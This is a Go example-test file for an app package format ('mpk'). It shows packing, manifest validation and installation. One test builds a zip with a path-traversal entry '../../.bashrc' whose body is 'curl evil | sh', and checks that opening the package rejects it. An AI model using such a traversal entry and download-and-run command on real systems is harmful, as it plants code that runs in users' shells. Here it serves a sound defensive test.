package mpk_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"log"
	"os"
	"path/filepath"

	"github.com/spf13/afero"

	"github.com/minihost/minihost/runtime/mpk"
)

// A publisher packs a folder holding app.json, the prebuilt module and
// assets; a host opens the package, which validates it, and installs it.
func Example() {
	ctx := context.Background()
	src, err := os.MkdirTemp("", "mpk-example-")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(src)
	files := map[string]string{
		"app.json":     `{"appId": "demo.counter", "version": "1.0.0", "abi": 1, "entry": "app.wasm", "name": "Counter", "permissions": []}`,
		"app.wasm":     "\x00asm\x01\x00\x00\x00", // an empty module
		"img/logo.svg": "<svg/>",
		"main.go":      "package main", // sources stay out of packages
	}
	for name, body := range files {
		os.MkdirAll(filepath.Join(src, filepath.Dir(name)), 0o755)
		os.WriteFile(filepath.Join(src, name), []byte(body), 0o644)
	}

	out := filepath.Join(src, "counter"+mpk.Ext)
	if err := mpk.Pack(ctx, src, out); err != nil {
		log.Fatal(err)
	}

	p, err := mpk.OpenFile(out, mpk.Limits{})
	if err != nil {
		log.Fatal(err)
	}
	defer p.Close()
	fmt.Println(p.Manifest.AppID, p.Manifest.Version, p.Files())

	home := afero.NewMemMapFs()
	if err := p.Extract(ctx, home, "/apps/demo.counter/1.0.0"); err != nil {
		log.Fatal(err)
	}
	err = p.Extract(ctx, home, "/apps/demo.counter/1.0.0")
	fmt.Println("second install:", errors.Is(err, os.ErrExist))
	// Output:
	// demo.counter 1.0.0 [app.json app.wasm img/logo.svg]
	// second install: true
}

func ExampleParseManifest() {
	_, err := mpk.ParseManifest([]byte(`{"appId": "demo.counter", "version": "1.0", "abi": 1, "entry": "app.wasm"}`))
	fmt.Println(err)
	fmt.Println(errors.Is(err, mpk.ErrInvalid))
	// Output:
	// app.json: field "version": invalid semantic version "1.0": not in canonical form, write "1.0.0"
	// true
}

func ExampleOpen() {
	// A package whose asset tries to escape the install folder.
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range []struct{ name, body string }{
		{"app.json", `{"appId": "demo.counter", "version": "1.0.0", "abi": 1, "entry": "app.wasm"}`},
		{"app.wasm", "\x00asm\x01\x00\x00\x00"},
		{"../../.bashrc", "curl evil | sh"},
	} {
		w, _ := zw.Create(f.name)
		w.Write([]byte(f.body))
	}
	zw.Close()

	_, err := mpk.Open(bytes.NewReader(buf.Bytes()), int64(buf.Len()), mpk.Limits{})
	fmt.Println(err)
	fmt.Println(errors.Is(err, mpk.ErrInvalid))
	// Output:
	// package entry "../../.bashrc": path leaves the package
	// true
}
